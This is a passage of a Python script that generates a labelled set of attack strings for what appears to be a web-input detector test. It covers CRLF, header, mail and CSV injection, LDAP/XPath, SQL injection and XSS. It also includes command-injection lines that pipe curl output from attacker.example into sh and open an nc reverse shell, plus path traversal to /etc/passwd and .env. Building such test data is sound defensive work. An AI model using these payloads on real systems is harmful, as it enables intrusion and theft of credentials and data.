    "{\"_id\": {\"$regex\": \"^.\"}, \"$comment\": \"dump\"}",
    "search[$text][$search]=x&search[$where]=1",
)

# ---------------- crlf ----------------
add("crlf", "log-forging",
    "Kind of Blue\n2024-05-01 12:00:00 INFO admin login succeeded user=dee ip=10.0.0.2",
    "VG+\r\n[AUDIT] refund approved order=10442 amount=999.00 by=owner",
    "want list\n127.0.0.1 - - [01/May/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512",
    "dopesmoker%0a[INFO] payment verified for order 10588%0a",
    "sleep%0d%0aWARN: staff password reset for dee@shop.example",
    "trade-in\u2028ERROR user=attacker.example action=delete_logs",
    "neu!\\r\\nINFO store_credit set to 5000 for account 4471",
)
add("crlf", "header-injection",
    "/records/123\r\nSet-Cookie: session=attacker; Domain=.shop.example",
    "en-GB%0d%0aLocation:%20https://attacker.example/login",
    "gbp\r\nX-Forwarded-Host: attacker.example",
    "kind-of-blue%0D%0AContent-Security-Policy:%20script-src%20*",
    "12%0d%0aAccess-Control-Allow-Origin: https://attacker.example",
    "/shop/item.php?id=1%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
    "utf-8\nRefresh: 0; url=https://attacker.example/",
)
add("crlf", "response-splitting",
    "/records/123%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "back\r\n\r\n<html><body>Shop closed, pay at https://attacker.example/pay</body></html>",
    "en%0d%0a%0d%0a<svg onload=alert(document.cookie)>",
    "x%0d%0aTransfer-Encoding: chunked%0d%0a%0d%0a0%0d%0a%0d%0aGET /admin HTTP/1.1%0d%0aHost: localhost",
    "/new-arrivals%0A%0AHTTP/1.1 302 Found%0ALocation: //attacker.example",
)
add("crlf", "mail-header",
    "dee@shop.example\r\nBcc: everyone@attacker.example",
    "Order question\nCc: list@attacker.example\nX-Priority: 1",
    "customer@mail.example%0ABcc:%20harvest@attacker.example",
    "Re: trade-in\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/verify>verify your account</a>",
    "Sue <sue@mail.example>\nReply-To: refunds@attacker.example",
    "Want list alert\r\nTo: all-customers@shop.example\r\nSubject: URGENT: update payment details",
)
add("crlf", "csv-row-injection",
    "great record\"\n\"=cmd|' /C calc'!A0\",\"x",
    "Kind of Blue\",\"VG+\",\"24.00\"\r\n\"FREE\",\"M\",\"0.00",
    "ring wear\n4471,owner,store_credit,99999",
    "seam split\"\r\n\"=HYPERLINK(\"\"https://attacker.example\"\",\"\"photos\"\")",
    "notes;ok\nSleep;Dopesmoker;SUNN 165;M;0.01",
)

# ---------------- ldap-xpath ----------------
add("ldap-xpath", "ldap",
    "*)(uid=*))(|(uid=*",
    "dee)(|(password=*))",
    "admin)(&)",
    "*)(objectClass=*",
    "staff*)(memberOf=cn=owners,ou=groups,dc=shop,dc=internal)(cn=*",
    "x)(|(cn=*)(userPassword=a*))",
    "*))%00",
    "\\2a)(uid=\\2a",
    "sue)(!(description=none)",
    "*()|&'",
)
add("ldap-xpath", "xpath",
    "' or '1'='1",
    "x' or name()='staff' or 'a'='b",
    "VG+'] | //user/password | a['",
    "' or count(/*)=1 or '",
    "kind of blue' and substring(//staff[1]/password,1,1)='a' or 'x'='y",
    "1' or string-length(//user[position()=1]/pw)>5 or '0'='1",
    "')] | //* | //*[contains(.,'",
    "x\" or 1=1 or \"\"=\"",
    "doc('http://attacker.example/x.xml')//a",
    "' and count(//customer[email])>0 and '1'='1",
)

# ---------------- small generated part (<=10%) ----------------
THEME_PREFIXES = ["miles davis kind of blue", "VG+ sleeve ring wear", "want: pink moon",
                  "trade-in 42 LPs", "cat# ILPS 9184", "order #10442"]
SQLI_POOL = ["' OR 'a'='a' -- ", "') OR 1=1#", "' UNION SELECT pw,NULL FROM staff_users-- -",
             "'; SELECT pg_sleep(5)-- "]
XSS_POOL = ["<img src=x onerror=alert(document.cookie)>", "\"><svg onload=alert(1)>",
            "<script src=//attacker.example/r.js></script>"]
CMDI_POOL = ["; curl http://attacker.example/x | sh", "$(id)", "| nc 198.51.100.2 4444 -e /bin/sh"]
URLENC_SQLI = ["x' OR 1=1-- ", "1 UNION SELECT null,email FROM customers"]
URLENC_TRAV = ["../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "../../.env"]


def urlenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def generated(r):
    out = []
    for pool, cat, cls, n in ((SQLI_POOL, "sqli", "boolean+prefix", 3),
                              (XSS_POOL, "xss", "event-handler+prefix", 2),
                              (CMDI_POOL, "cmdi", "separator+prefix", 4)):
        made = 0
        while made < n:
            v = r.choice(THEME_PREFIXES) + r.choice(pool)
            if any(v == o[2] for o in out):
                continue
            out.append((cat, cls, v))
            made += 1
    for s in URLENC_SQLI:
        out.append(("sqli", "boolean+urlencode", urlenc(s)))
    for s in URLENC_TRAV:
        out.append(("traversal", "dotdot+urlencode", urlenc(s)))
    return out


ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    r = random.Random(SEED)
    gen = generated(r)
    allrows = A + gen
    benign = set()
    bp = os.path.join(HERE, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as fh:
            for line in fh:
                benign.add(json.loads(line)["value"])
    seen = set()
    rows = []
    for cat in ORDER:
        for c, cls, v in allrows:
            if c != cat:
                continue
            if v in seen:
                raise SystemExit("duplicate attack: " + v)
            if v in benign:
                raise SystemExit("attack equals benign: " + v)
            if not (1 <= len(v) <= 2000):
                raise SystemExit("bad length: " + v)
            if any(ord(ch) < 32 and ch not in "\n\r\t" for ch in v):
                raise SystemExit("control char: " + repr(v))
            seen.add(v)
            rows.append((c, cls, v))
    out = os.path.join(HERE, "attacks.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as fh:
        for i, (c, cls, v) in enumerate(rows, 1):
            obj = {"id": "hamo-%05d" % i, "category": c, "class": cls, "label": "attack", "value": v}
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
